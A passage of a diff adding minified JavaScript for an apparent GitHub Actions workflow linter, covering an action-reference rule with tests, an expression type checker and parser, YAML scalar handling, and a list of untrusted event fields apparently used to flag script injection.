+        with:
+          whatever: 1
+      - uses: actions/github-script@v7
+        with:
+          script: console.log(1)
+      - uses: someone/else@v1
+        with:
+          anything: 1
+`,expect:[]}]},Lh=VA;var qs=U(require("node:path"));var zA={id:"action-ref",language:["workflow","action"],severity:"error",compat:{actionlint:"action"},docs:{summary:"A step's `uses:` must be `owner/repo@ref`, `owner/repo/path@ref`, `./local/path` or `docker://image`; a local action folder must hold an `action.yml` (a warning: an earlier step may create it).",why:'GitHub fails the job at "Set up job" when it cannot resolve the action, after the other jobs have already started. A missing `@ref` is the usual slip.',bad:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout
+      - uses: docker://
+`,good:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - uses: docker://alpine:3.20
+`},check({model:n,files:e,path:t,report:s}){let i=Tn(t,e);for(let{step:r}of St(n)){let o=r.uses;if(o===void 0||!r.usesNode||o.includes("${{"))continue;let a=n.rangeOf(r.usesNode),c=o.trim();if(c!==""){if(c.startsWith("docker://")){(!/^docker:\/\/[^\s]+$/.test(c)||c.length===9)&&s({message:`invalid docker image reference ${JSON.stringify(o)} at "uses": expected docker://image[:tag]`,range:a});continue}if(c.startsWith("./")||c==="."){if(c.includes("@")){s({message:`local action ${JSON.stringify(o)} at "uses" must not have a @ref: a local action is used at the commit being run`,range:a});continue}if(!i)continue;let l=qs.posix.join(i,c.replace(/^\.\/?/,""));!e.exists(qs.posix.join(l,"action.yml"))&&!e.exists(qs.posix.join(l,"action.yaml"))&&!e.exists(qs.posix.join(l,"Dockerfile"))&&s({message:`neither action.yml nor action.yaml is found in local action directory ${JSON.stringify(c)} (unless an earlier step creates it, the step fails)`,range:a,severity:"warning"});continue}if(/\.ya?ml(@|$)/.test(c)&&c.includes("/.github/workflows/")){s({message:`${JSON.stringify(o)} is a reusable workflow: call it with "uses" at the job level, not in a step`,range:a});continue}if(!/^[A-Za-z0-9_.-]+\/[A-Za-z0-9_.-]+(\/[^@\s]+)?@[^@\s]+$/.test(c)){let l=c.includes("@")?"":": the @ref (a tag, branch or commit SHA) is missing";s({message:`specifying action ${JSON.stringify(o)} in invalid format because ${l?"ref is missing":"it does not match owner/repo[/path]@ref"}. available formats are "{owner}/{repo}@{ref}", "{owner}/{repo}/{path}@{ref}", "./path" or "docker://image"${l}`,range:a})}}}},tests:[{name:"invalid references",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout
+      - uses: checkout@v4
+      - uses: ./local@v1
+      - uses: docker://
+      - uses: org/repo/.github/workflows/x.yml@main
+`,expect:[{line:6,col:15,message:"ref is missing"},{line:7,col:15,message:"invalid format"},{line:8,col:15,message:"must not have a @ref"},{line:9,col:15,message:"invalid docker image reference"},{line:10,col:15,message:"reusable workflow"}]},{name:"missing local action",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: ./.github/actions/missing
+      - uses: ./.github/actions/here
+`,files:{".github/actions/here/action.yml":`name: x
+description: d
+runs:
+  using: node20
+  main: x.js
+`},expect:[{line:6,col:15,message:"neither action.yml nor action.yaml",severity:"warning"}]},{name:"valid references",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - uses: github/codeql-action/init@v3
+      - uses: actions/setup-node@0a44ba7841725637a19e28fa30b79a866c81b0a6
+      - uses: docker://ghcr.io/owner/image:1.0
+      - uses: \${{ matrix.action }}
+      - uses: ./
+`,files:{"action.yml":`name: x
+description: d
+runs:
+  using: composite
+  steps: []
+`},expect:[]}]},Dh=zA;var xo=U(require("node:path")),E=U(ke());var C={k:"any"},Hs={k:"null"},ge={k:"number"},J={k:"bool"},A={k:"string"};function G(n={}){let e=n instanceof Map?n:new Map(Object.entries(n));return{k:"object",props:new Map([...e].map(([t,s])=>[t.toLowerCase(),s])),strict:!0}}function xe(n={}){return{...G(n),strict:!1}}function Re(n){return{k:"object",props:new Map,mapped:n,strict:!1}}function le(n,e=!1){return{k:"array",elem:n,deref:e}}function W(n){switch(n.k){case"object":return n.mapped&&n.props.size===0?`{string => ${W(n.mapped)}}`:n.props.size===0&&!n.strict?"object":`{${[...n.props.keys()].sort().map(t=>`${t}: ${W(n.props.get(t))}`).join("; ")}}`;case"array":return`array<${W(n.elem)}>`;default:return n.k}}function yo(n,e){if(n.k==="any"||e.k==="any")return!0;switch(n.k){case"null":return e.k==="null";case"number":return e.k==="number";case"bool":return!0;case"string":return e.k==="string"||e.k==="number";case"object":if(e.k!=="object")return!1;for(let[t,s]of n.props){let i=e.props.get(t);if(i&&!yo(s,i))return!1}return!0;case"array":return e.k==="array"&&yo(n.elem,e.elem)}}function Ee(n,e){if(n.k==="any"||e.k==="any")return C;if(n.k==="object"&&e.k==="object"){if(n.props.size===0&&!n.mapped&&n.strict&&e.props.size>0)return e;let t=new Map(n.props);for(let[i,r]of e.props){let o=t.get(i);t.set(i,o?Ee(o,r):r)}let s=n.mapped&&e.mapped?Ee(n.mapped,e.mapped):n.mapped??e.mapped;return{k:"object",props:t,mapped:s,strict:n.strict&&e.strict}}return n.k==="array"&&e.k==="array"?n.elem.k==="any"?n:e.elem.k==="any"?e:le(Ee(n.elem,e.elem)):n.k===e.k||n.k==="string"&&e.k==="number"?n:n.k==="number"&&e.k==="string"?e:C}function Us(n){if(n===null)return Hs;if(typeof n=="string")return A;if(typeof n=="number")return ge;if(typeof n=="boolean")return J;if(Array.isArray(n))return n.length===0?le(C):le(n.map(Us).reduce(Ee));if(typeof n=="object"){let e=G();for(let[t,s]of Object.entries(n))e.props.set(t.toLowerCase(),Us(s));return e}return C}var At=["env","github","inputs","job","matrix","needs","runner","secrets","steps","strategy","vars"],Ie=["github","inputs","matrix","needs","strategy","vars"],Th={"run-name":["github","inputs","vars"],concurrency:["github","inputs","vars"],env:["github","inputs","secrets","vars"],"defaults.run.shell":[],"on.workflow_call.inputs.<inputs_id>.default":["github","inputs","vars"],"on.workflow_call.outputs.<output_id>.value":["github","inputs","jobs","vars"],"jobs.<job_id>.name":Ie,"jobs.<job_id>.concurrency":Ie,"jobs.<job_id>.container":Ie,"jobs.<job_id>.container.image":Ie,"jobs.<job_id>.continue-on-error":Ie,"jobs.<job_id>.environment":Ie,"jobs.<job_id>.runs-on":Ie,"jobs.<job_id>.services":Ie,"jobs.<job_id>.timeout-minutes":Ie,"jobs.<job_id>.with.<with_id>":Ie,"jobs.<job_id>.snapshot.if":Ie,"jobs.<job_id>.strategy":["github","inputs","needs","vars"],"jobs.<job_id>.if":["github","inputs","needs","vars"],"jobs.<job_id>.env":["github","inputs","matrix","needs","secrets","strategy","vars"],"jobs.<job_id>.secrets.<secrets_id>":["github","inputs","matrix","needs","secrets","strategy","vars"],"jobs.<job_id>.defaults.run":["env","github","inputs","matrix","needs","strategy","vars"],"jobs.<job_id>.container.credentials":["env","github","inputs","matrix","needs","secrets","strategy","vars"],"jobs.<job_id>.services.<service_id>.credentials":["env","github","inputs","matrix","needs","secrets","strategy","vars"],"jobs.<job_id>.container.env.<env_id>":["env","github","inputs","job","matrix","needs","runner","secrets","strategy","vars"],"jobs.<job_id>.services.<service_id>.env.<env_id>":["env","github","inputs","job","matrix","needs","runner","secrets","strategy","vars"],"jobs.<job_id>.environment.url":["env","github","inputs","job","matrix","needs","runner","steps","strategy","vars"],"jobs.<job_id>.outputs.<output_id>":At,"jobs.<job_id>.steps.if":["env","github","inputs","job","matrix","needs","runner","steps","strategy","vars"],"jobs.<job_id>.steps.continue-on-error":At,"jobs.<job_id>.steps.env":At,"jobs.<job_id>.steps.name":At,"jobs.<job_id>.steps.run":At,"jobs.<job_id>.steps.timeout-minutes":At,"jobs.<job_id>.steps.with":At,"jobs.<job_id>.steps.working-directory":At,"jobs.<job_id>.steps.id":[],"jobs.<job_id>.steps.shell":[]},qu="https://docs.github.com/en/actions/learn-github-actions/contexts#context-availability";function JA(){return G({...(e=>Object.fromEntries(e.split(/\s+/).filter(Boolean).map(t=>[t,A])))(`action action_path action_ref action_repository action_status actor actor_id api_url base_ref env event_name
+      event_path graphql_url head_ref job output path ref ref_name ref_type repository repository_id repository_owner
+      repository_owner_id repository_visibility repositoryurl run_attempt run_id run_number secret_source server_url sha
+      state step_summary token triggering_actor workflow workflow_ref workflow_sha workspace`),artifact_cache_size_limit:ge,retention_days:ge,ref_protected:J,event:xe()})}function KA(){return G({name:A,os:A,arch:A,temp:A,tool_cache:A,debug:A,environment:A,workspace:A})}function XA(){return G({check_run_id:ge,container:G({id:A,network:A}),services:Re(G({id:A,network:A,ports:Re(A)})),status:A,workflow_ref:A,workflow_sha:A,workflow_repository:A,workflow_file_path:A})}function ZA(){return xe({"fail-fast":J,"job-index":ge,"job-total":ge,"max-parallel":ge})}function Uu(){return{github:JA(),env:Re(A),job:XA(),runner:KA(),secrets:Re(A),strategy:ZA(),vars:Re(A),matrix:xe(),needs:xe(),steps:xe(),inputs:xe()}}var bo={contains:[{name:"contains",ret:J,params:[A,A],pure:!0},{name:"contains",ret:J,params:[le(C),C],pure:!0}],startswith:[{name:"startsWith",ret:J,params:[A,A],pure:!0}],endswith:[{name:"endsWith",ret:J,params:[A,A],pure:!0}],format:[{name:"format",ret:A,params:[A,C],variadic:!0,pure:!0}],join:[{name:"join",ret:A,params:[le(A),A],pure:!0},{name:"join",ret:A,params:[le(A)],pure:!0}],tojson:[{name:"toJSON",ret:A,params:[C],pure:!0}],fromjson:[{name:"fromJSON",ret:C,params:[A]}],hashfiles:[{name:"hashFiles",ret:A,params:[A],variadic:!0}],success:[{name:"success",ret:J,params:[]}],always:[{name:"always",ret:J,params:[]}],cancelled:[{name:"cancelled",ret:J,params:[]}],failure:[{name:"failure",ret:J,params:[]}],case:[{name:"case",ret:C,params:[J,C,C],variadic:!0,pure:!0}]},jh={always:["jobs.<job_id>.if","jobs.<job_id>.steps.if"],cancelled:["jobs.<job_id>.if","jobs.<job_id>.steps.if"],failure:["jobs.<job_id>.if","jobs.<job_id>.steps.if"],success:["jobs.<job_id>.if","jobs.<job_id>.steps.if"],hashfiles:["jobs.<job_id>.steps.continue-on-error","jobs.<job_id>.steps.env","jobs.<job_id>.steps.if","jobs.<job_id>.steps.name","jobs.<job_id>.steps.run","jobs.<job_id>.steps.timeout-minutes","jobs.<job_id>.steps.with","jobs.<job_id>.steps.working-directory"]};function Hu(n){return`${n.name}(${n.params.map(W).join(", ")}${n.variadic?"...":""}) -> ${W(n.ret)}`}function _h(n){let e=new Set,t=0;for(;t<n.length;){let s=n[t];if(s==="{"){if(n[t+1]==="{"){t+=2;continue}let i=/^\{(\d+)\}/.exec(n.slice(t));if(i){e.add(Number(i[1])),t+=i[0].length;continue}return{used:e,badAt:t}}if(s==="}"){if(n[t+1]==="}"){t+=2;continue}return{used:e,badAt:t}}t++}return{used:e}}function $h(n){let e=n%100>=11&&n%100<=13?"th":["th","st","nd","rd"][n%10]??"th";return`${n}${e}`}function Ys(n){return n.map(e=>`"${e}"`).join(", ")}var wo=class{constructor(e){this.env=e;this.available=e.workflowKey!==void 0?Th[e.workflowKey]:void 0}env;diags=[];available;report(e,t,s,i){this.diags.push({rule:e,message:s,start:t.start,end:t.end,severity:i})}check(e){switch(e.type){case"null":return Hs;case"bool":return J;case"number":return ge;case"string":return A;case"var":return this.checkVar(e);case"prop":return this.checkProp(e);case"filter":return this.checkFilter(e);case"index":return this.checkIndex(e);case"call":return this.checkCall(e);case"not":return this.check(e.operand),J;case"binary":return e.op==="&&"||e.op==="||"?this.checkLogical(e):this.checkCompare(e)}}checkVar(e){let t=e.name.toLowerCase(),s=this.env.vars[t];if(!s){let i=Object.keys(this.env.vars).sort();return this.report("undefined-reference",e,`undefined variable "${e.name}". available variables are ${Ys(i)}`),C}if(this.available&&!this.available.includes(t)){let i=this.available,r=i.length===0?"no context is available here":i.length===1?`available context is ${Ys(i)}`:`available contexts are ${Ys(i)}`;this.report("context-availability",e,`context "${e.name}" is not allowed here. ${r}. see ${qu} for more details`)}return s}missing(e,t,s,i=""){let r=this.env.hints?.get(e)?.(t);this.report("undefined-reference",s,`property "${t}" is not defined in object type ${W(e)}${i}${r?`. ${r}`:""}`)}checkProp(e){let t=this.check(e.object),s=e.name.toLowerCase(),i={start:e.nameStart,end:e.end};switch(t.k){case"any":return C;case"object":{let r=t.props.get(s);return r||(t.mapped?t.mapped:(t.strict&&this.missing(t,e.name,i),C))}case"array":{if(!t.deref)break;let r=t.elem;if(r.k==="any")return t;if(r.k==="object"){let o=C,a=r.props.get(s);return a?o=a:r.mapped?o=r.mapped:r.strict&&this.missing(r,e.name,i," as element of filtered array"),le(o,!0)}return this.report("expression-type",i,`property filtered by "${e.name}" at object filtering must be type of object but got "${W(r)}"`),C}}return this.report("expression-type",i,`receiver of object dereference "${e.name}" must be type of object but got "${W(t)}"`),C}checkFilter(e){let t=this.check(e.object);switch(t.k){case"any":return le(C,!0);case"array":return le(t.elem,!0);case"object":{if(t.mapped)return t.mapped.k==="object"?le(t.mapped,!0):t.mapped.k==="any"?le(C,!0):le(t.mapped,!0);if(!t.strict)return le(C,!0);let s;for(let i of t.props.values())s=s?Ee(s,i):i;return le(s??C,!0)}}return this.report("expression-type",e,`receiver of object filtering \`.*\` must be type of array or object but got "${W(t)}"`),C}checkIndex(e){let t=this.check(e.index),s=this.check(e.object);switch(s.k){case"any":return C;case"array":return t.k==="any"||t.k==="number"?s.elem:(this.report("expression-type",e.index,`index access of array must be type of number but got "${W(t)}"`),C);case"object":if(t.k==="any")return s.mapped??C;if(t.k==="string"){if(e.index.type==="string"){let i=s.props.get(e.index.value.toLowerCase());return i||(s.mapped?s.mapped:(s.strict&&this.missing(s,e.index.value,e.index),C))}return s.mapped??C}return this.report("expression-type",e.index,`property access of object must be type of string but got "${W(t)}"`),C}return this.report("expression-type",e,`index access operand must be type of object or array but got "${W(s)}"`),C}signatureError(e,t,s){let i=t.params.length,r=s.length;if(t.variadic&&r<i||!t.variadic&&r!==i)return{rule:"expression-type",start:e.start,end:e.nameEnd,message:`number of arguments is wrong. function "${Hu(t)}" takes ${t.variadic?"at least ":""}${i} parameters but ${r} arguments are given`};for(let o=0;o<r;o++){let a=t.params[Math.min(o,i-1)];if(!yo(a,s[o]))return{rule:"expression-type",start:e.args[o].start,end:e.args[o].end,message:`${$h(o+1)} argument of function call is not assignable. "${W(s[o])}" cannot be assigned to "${W(a)}". called function type is "${Hu(t)}"`}}}checkCall(e){let t=e.name.toLowerCase(),s=bo[t],i=e.args.map(c=>this.check(c));if(!s)return this.report("undefined-reference",{start:e.start,end:e.nameEnd},`undefined function "${e.name}". available functions are ${Ys(Object.values(bo).map(c=>c[0].name.toLowerCase()).sort())}`),C;let r,o=[];for(let c of s){let l=this.signatureError(e,c,i);if(!l){r=c;break}o.push(l)}if(!r){let c=o[0];return o.length>1&&(c.message+=`; ${o.slice(1).map(l=>l.message).join("; ")}`),this.diags.push(c),C}let a=jh[t];if(a&&(this.env.workflowKey===void 0||!a.includes(this.env.workflowKey))&&this.report("context-availability",{start:e.start,end:e.nameEnd},`calling function "${e.name}" is not allowed here. "${e.name}" is only available in ${Ys(a)}. see ${qu} for more details`),t==="format"&&e.args[0]?.type==="string"){let c=e.args[0].value,{used:l,badAt:u}=_h(c),p=e.args.length-1;u!==void 0&&this.report("expression-type",e.args[0],`format string "${c}" is invalid: unescaped "${c[u]}" at offset ${u}. write "{{" or "}}" for a literal brace`,"warning");for(let d=0;d<p;d++)l.has(d)||this.report("expression-type",{start:e.start,end:e.nameEnd},`format string "${c}" does not contain placeholder {${d}}. remove argument which is unused in the format string`);for(let d of[...l].sort((f,m)=>f-m))d>=p&&this.report("expression-type",{start:e.start,end:e.nameEnd},`format string "${c}" contains placeholder {${d}} but only ${p} arguments are given to format`)}else if(t==="fromjson"&&e.args[0]?.type==="string"){let c=e.args[0].value;try{return Us(JSON.parse(c))}catch(l){let u=l.message,p=/position (\d+)/.exec(u),d=p?Number(p[1]):c.length,f=c.trim()===""||/end of (JSON|data)/i.test(u)?"unexpected end of JSON input":u.replace(/ in JSON at position \d+.*$/,"").replace(/^Unexpected/,"unexpected");this.report("expression-type",e.args[0],`broken JSON string is passed to fromJSON() at offset ${d}: ${f}`)}}else t==="case"&&e.args.length%2===0&&this.report("expression-type",{start:e.start,end:e.nameEnd},`case() requires an odd number of arguments (pred/value pairs + default) but got ${e.args.length}`);return r.ret}comparable(e,t,s){if(e==="=="||e==="!=")switch(t.k){case"any":case"null":return!0;case"number":case"bool":case"string":return s.k!=="object"&&s.k!=="array";case"object":return s.k==="object"||s.k==="null"||s.k==="any";case"array":return s.k==="array"?this.comparable(e,t.elem,s.elem):s.k==="null"||s.k==="any"}let i=r=>r.k==="any"||r.k==="number"||r.k==="string";return i(t)&&i(s)}checkCompare(e){let t=this.check(e.left),s=this.check(e.right);return this.comparable(e.op,t,s)||this.report("expression-type",e,`"${W(t)}" value cannot be compared to "${W(s)}" value with "${e.op}" operator`,"warning"),J}narrowed(e,t){return e.type==="binary"&&e.op==="&&"&&t?(this.check(e.left),this.check(e.right)):e.type==="binary"&&e.op==="||"&&!t?(this.check(e.left),this.check(e.right)):e.type==="not"?(this.narrowed(e.operand,!t),J):this.check(e)}checkLogical(e){let t=this.narrowed(e.left,e.op==="||");return Ee(t,this.check(e.right))}};function zt(n){switch(n.type){case"null":case"bool":case"number":case"string":return!0;case"var":case"prop":case"filter":case"index":return!1;case"not":return zt(n.operand);case"binary":return zt(n.left)&&zt(n.right);case"call":{let e=bo[n.name.toLowerCase()];return!!e&&e.every(t=>t.pure)&&n.args.every(zt)}}}var Ih="expecting 'a'..'z', 'A'..'Z', '_', '0'..'9', ''', '}', '(', ')', '[', ']', '.', '!', '<', '>', '=', '&', '|', '*', ',', ' '";function qh(n){return n>="a"&&n<="z"||n>="A"&&n<="Z"||n==="_"}function Yu(n){return qh(n)||n>="0"&&n<="9"||n==="-"}function Ph(n){return n>="0"&&n<="9"}function QA(n){return n===" "||n==="	"||n===`
+`||n==="\r"}function Uh(n,e=0){let t=[],s=e,i=n.length,r=(o,a,c=a+1)=>({tokens:t,end:i,error:{message:o,start:a,end:Math.min(Math.max(c,a+1),Math.max(i,a+1))}});for(;s<i;){let o=n[s];if(QA(o)){s++;continue}let a=s;if(o==="}")return n[s+1]==="}"?(t.push({kind:"end",text:"}}",start:a,end:s+2}),{tokens:t,end:s+2}):r("got unexpected character '}' while lexing expression, expecting '}}' to close the expression",s);if(qh(o)){for(s++;s<i&&Yu(n[s]);)s++;t.push({kind:"ident",text:n.slice(a,s),start:a,end:s});continue}if(Ph(o)||o==="-"&&(Ph(n[s+1]??"")||n[s+1]===".")){let l=/^-?(?:0x[0-9a-fA-F]+|0o[0-7]+|(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?)/.exec(n.slice(s,s+64));if(!l)return r("invalid number literal",s);if(s+=l[0].length,s<i&&(Yu(n[s])||n[s]===".")){let g=s;for(;g<i&&(Yu(n[g])||n[g]===".");)g++;return r(`invalid number literal "${n.slice(a,g)}"`,a,g)}let u=l[0],p=u.startsWith("-"),d=p?u.slice(1):u,f;/^0x/i.test(d)?f=parseInt(d.slice(2),16):/^0o/i.test(d)?f=parseInt(d.slice(2),8):f=Number(d),p&&(f=-f);let m=/[.eE]/.test(d)&&!/^0x/i.test(d);t.push({kind:m?"float":"int",text:u,start:a,end:s,value:f});continue}if(o==="'"){let l=s+1,u="";for(;;){if(l>=i)return r("got unexpected EOF while lexing end of string literal, expecting '''",a,i);if(n[l]==="'"){if(n[l+1]==="'"){u+="'",l+=2;continue}l++;break}u+=n[l],l++}t.push({kind:"string",text:n.slice(a,l),start:a,end:l,value:u}),s=l;continue}let c=n.slice(s,s+2);if(c==="<="||c===">="||c==="=="||c==="!="||c==="&&"||c==="||"){t.push({kind:c,text:c,start:a,end:s+2}),s+=2;continue}if("()[].,*!<>".includes(o)){t.push({kind:o,text:o,start:a,end:s+1}),s++;continue}if(o==="="||o==="&"||o==="|"){let l=o+o;return r(`got unexpected character '${o}' while lexing expression. did you mean '${l}'?`,s)}return r(o==='"'?`got unexpected character '"' while lexing expression, ${Ih}. do you mean string literals? only single quotes are available for string delimiter`:`got unexpected character ${JSON.stringify(o)} while lexing expression, ${Ih}`,s)}return{tokens:t,end:i,error:{message:'expression is not closed: "}}" is missing',start:Math.max(e-3,0),end:i}}}var Jt=class extends Error{constructor(t){super(t.message);this.err=t}err};function Bu(n){return n.kind==="end"?'end of expression "}}"':n.kind==="ident"?`identifier "${n.text}"`:n.kind==="string"?`string literal ${n.text}`:n.kind==="int"||n.kind==="float"?`number ${n.text}`:`"${n.text}"`}var Wu=class{constructor(e){this.toks=e}toks;i=0;peek(){return this.toks[this.i]}next(){return this.toks[this.i++]}fail(e,t){throw new Jt({message:`unexpected ${Bu(e)} while parsing ${t}`,start:e.start,end:e.end})}expect(e,t){let s=this.peek();if(s.kind!==e)throw new Jt({message:`unexpected ${Bu(s)} while parsing ${t}. expecting "${e==="end"?"}}":e}"`,start:s.start,end:s.end});return this.next()}parseAll(){if(this.peek().kind==="end"){let s=this.peek();throw new Jt({message:'expression is empty: write an expression between "${{" and "}}"',start:s.start,end:s.end})}let e=this.parseOr(),t=this.peek();return t.kind!=="end"&&this.fail(t,'end of expression. expecting "}}" or an operator'),e}parseOr(){let e=this.parseAnd();for(;this.peek().kind==="||";){let t=this.next(),s=this.parseAnd();e={type:"binary",op:"||",left:e,right:s,opStart:t.start,start:e.start,end:s.end}}return e}parseAnd(){let e=this.parseEq();for(;this.peek().kind==="&&";){let t=this.next(),s=this.parseEq();e={type:"binary",op:"&&",left:e,right:s,opStart:t.start,start:e.start,end:s.end}}return e}parseEq(){let e=this.parseCmp();for(;;){let t=this.peek().kind;if(t!=="=="&&t!=="!=")return e;let s=this.next(),i=this.parseCmp();e={type:"binary",op:t,left:e,right:i,opStart:s.start,start:e.start,end:i.end}}}parseCmp(){let e=this.parseUnary();for(;;){let t=this.peek().kind;if(t!=="<"&&t!=="<="&&t!==">"&&t!==">=")return e;let s=this.next(),i=this.parseUnary();e={type:"binary",op:t,left:e,right:i,opStart:s.start,start:e.start,end:i.end}}}parseUnary(){let e=this.peek();if(e.kind==="!"){this.next();let t=this.parseUnary();return{type:"not",operand:t,start:e.start,end:t.end}}return this.parsePostfix()}parsePostfix(){let e=this.parsePrimary();for(;;){let t=this.peek();if(t.kind==="."){this.next();let s=this.peek();s.kind==="*"?(this.next(),e={type:"filter",object:e,start:e.start,end:s.end}):s.kind==="ident"?(this.next(),e={type:"prop",object:e,name:s.text,nameStart:s.start,start:e.start,end:s.end}):this.fail(s,'property access. expecting a property name or "*" after "."')}else if(t.kind==="["){this.next();let s=this.parseOr(),i=this.expect("]","index access");e={type:"index",object:e,index:s,start:e.start,end:i.end}}else return e}}parsePrimary(){let e=this.next();switch(e.kind){case"ident":{if(this.peek().kind==="("){this.next();let t=[];if(this.peek().kind!==")")for(;;){t.push(this.parseOr());let i=this.peek();if(i.kind===","){this.next();continue}if(i.kind===")")break;this.fail(i,`arguments of function call "${e.text}". expecting "," or ")"`)}let s=this.expect(")",`function call "${e.text}"`);return{type:"call",name:e.text,nameEnd:e.end,args:t,start:e.start,end:s.end}}return e.text==="null"?{type:"null",start:e.start,end:e.end}:e.text==="true"||e.text==="false"?{type:"bool",value:e.text==="true",start:e.start,end:e.end}:e.text==="NaN"?{type:"number",value:NaN,text:e.text,start:e.start,end:e.end}:e.text==="Infinity"?{type:"number",value:1/0,text:e.text,start:e.start,end:e.end}:{type:"var",name:e.text,start:e.start,end:e.end}}case"int":case"float":return{type:"number",value:e.value,text:e.text,start:e.start,end:e.end};case"string":return{type:"string",value:e.value,start:e.start,end:e.end};case"(":{let t=this.parseOr(),s=this.peek();if(s.kind!==")")throw new Jt({message:`unbalanced parentheses: unexpected ${Bu(s)}, expecting ")" to close "(" at offset ${e.start}`,start:s.start,end:s.end});return this.next(),{...t,start:t.start,end:t.end}}default:return this.fail(e,'expression. expecting a value, a variable, a function call or "("')}}};function Gu(n,e=0){let t=Uh(n,e);if(t.error)return{error:t.error,end:t.end};try{return{node:new Wu(t.tokens).parseAll(),end:t.end}}catch(s){if(s instanceof Jt)return{error:s.err,end:t.end};throw s}}function Hh(n){let e=Gu(n+"}}",0);return e.error&&e.error.start>=n.length&&(e.error={...e.error,start:Math.max(n.length-1,0),end:n.length}),{...e,end:Math.min(e.end,n.length)}}function Yh(n,e){let t=[],s=0;for(let i=0;i<=n.length;i++)if(i===n.length||n[i]===`
+`){let r=i;r>s&&n[r-1]==="\r"&&r--,t.push({text:n.slice(s,r),start:e+s}),s=i+1}return t}var vo=/[ \t]/;function Vu(n,e,t){let s=Yh(n,e),i="",r=[],o=(u,p)=>{for(let d of u)i+=d,r.push(p),d.length===2&&r.push(p)},a=0,c=!1,l=!1;for(let u=0;u<s.length;u++){let{text:p,start:d}=s[u],f=u===0,m=u===s.length-1,g=0,h=p.length;if(!f||t==="plain")for(;g<h&&vo.test(p[g]);)g++;if(!m||t==="plain")for(;h>g&&vo.test(p[h-1]);)h--;let y=!1;if(t==="double"&&!m){let k=p.length;for(;k>0&&vo.test(p[k-1]);)k--;let v=0;for(;k-v-1>=0&&p[k-v-1]==="\\";)v++;v%2===1&&(y=!0,h=k-1)}if(p=p.slice(g,h),d+=g,!f){if(p===""&&!m){l||a++;continue}l||(a>0?o(`
+`.repeat(a),d):(c||p!=="")&&o(" ",d)),a=0}l=y,c=!0;let w=0;for(;w<p.length;){let k=p[w],v=d+w;if(t==="single"&&k==="'"&&p[w+1]==="'"){o("'",v),w+=2;continue}if(t==="double"&&k==="\\"){let O=p[w+1],R={0:"\0",a:"\x07",b:"\b",t:"	","	":"	",n:`
+`,v:"\v",f:"\f",r:"\r",e:"\x1B"," ":" ",'"':'"',"/":"/","\\":"\\",N:"\x85",_:"\xA0",L:"\u2028",P:"\u2029"};if(O!==void 0&&R[O]!==void 0){o(R[O],v),w+=2;continue}let M=O==="x"?2:O==="u"?4:O==="U"?8:0;if(M){let S=p.slice(w+2,w+2+M);if(/^[0-9a-fA-F]+$/.test(S)&&S.length===M){o(String.fromCodePoint(parseInt(S,16)),v),w+=2+M;continue}}}o(k,v),w++}}return r.push(e+n.length),{value:i,offsets:r}}function e1(n){let e=n.props?.find(g=>g.type==="block-scalar-header");if(!e)return;let t=n.props[n.props.length-1],s=t.offset+t.source.length,i=e.source.startsWith(">"),r=e.source.includes("-")?"strip":e.source.includes("+")?"keep":"clip";if(/\d/.test(e.source))return;let o=Yh(n.source,s);o.length&&o[o.length-1].text===""&&n.source.endsWith(`
+`)&&o.pop();let a=-1;for(let g of o)if(g.text.trim()!==""){a=g.text.length-g.text.trimStart().length;break}a<0&&(a=0);let c="",l=[],u=o.map(g=>({text:g.text.length>a?g.text.slice(a):g.text.trim()===""?"":g.text.slice(a),start:g.start+Math.min(a,g.text.length)})),p=u.length;for(;p>0&&u[p-1].text==="";)p--;let d=(g,h)=>{for(let y=0;y<g.length;y++)c+=g[y],l.push(h+(g[y]===`
+`?0:y))},f=g=>g!==""&&vo.test(g[0]),m=-1;for(let g=0;g<p;g++){let h=u[g];if(!i){g>0&&d(`
+`,u[g-1].start+u[g-1].text.length),d(h.text,h.start);continue}if(h.text!==""){if(m<0)for(let y=0;y<g;y++)d(`
+`,u[y].start);else{let y=u[m],w=g-m-1,k=y.start+y.text.length;!f(y.text)&&!f(h.text)?d(w===0?" ":`
+`.repeat(w),k):d(`
+`.repeat(w+1),k)}d(h.text,h.start),m=g}}if(p>0){let g=u[p-1],h=g.start+g.text.length;if(r==="clip")d(`
+`,h);else if(r==="keep")for(let y=p-1;y<u.length;y++)d(`
+`,h)}else if(r==="keep")for(let g=0;g<u.length;g++)d(`
+`,s);return l.push(s+n.source.length),{value:c,offsets:l}}function Bs(n){if(typeof n.value!="string")return;let e=n.value,t=n.srcToken,s=n.range?.[0]??0,i;if(t)try{switch(t.type){case"scalar":i=Vu(t.source,t.offset,"plain");break;case"single-quoted-scalar":i=Vu(t.source.slice(1,-1),t.offset+1,"single");break;case"double-quoted-scalar":i=Vu(t.source.slice(1,-1),t.offset+1,"double");break;case"block-scalar":i=e1(t);break}}catch{i=void 0}return i&&i.value===e?{value:e,offsets:i.offsets,exact:!0}:{value:e,offsets:new Array(e.length+1).fill(s),exact:!1}}var t1=["github.head_ref","github.event.issue.title","github.event.issue.body","github.event.pull_request.title","github.event.pull_request.body","github.event.pull_request.head.ref","github.event.pull_request.head.label","github.event.pull_request.head.repo.default_branch","github.event.comment.body","github.event.review.body","github.event.review_comment.body","github.event.discussion.title","github.event.discussion.body","github.event.pages.*.page_name","github.event.commits.*.message","github.event.commits.*.author.email","github.event.commits.*.author.name","github.event.head_commit.message","github.event.head_commit.author.email","github.event.head_commit.author.name","github.event.workflow_run.head_branch","github.event.workflow_run.head_commit.message","github.event.workflow_run.head_commit.author.email","github.event.workflow_run.head_commit.author.name","github.event.workflow_run.pull_requests.*.head.ref"].map(n=>n.split("."));function ko(n){switch(n.type){case"var":return[n.name.toLowerCase()];case"prop":{let e=ko(n.object);return e&&[...e,n.name.toLowerCase()]}case"filter":{let e=ko(n.object);return e&&[...e,"*"]}case"index":{let e=ko(n.object);return e&&[...e,n.index.type==="string"?n.index.value.toLowerCase():"*"]}default:return}}function n1(n){for(let e of t1)if(e.length===n.length&&e.every((t,s)=>t===n[s]))return n.join(".")}function Bh(n){let e=[],t=(s,i)=>{if(s.type==="prop"||s.type==="filter"||s.type==="index"){if(!i){let r=s;for(;r&&(r.type==="prop"||r.type==="filter"||r.type==="index");){let 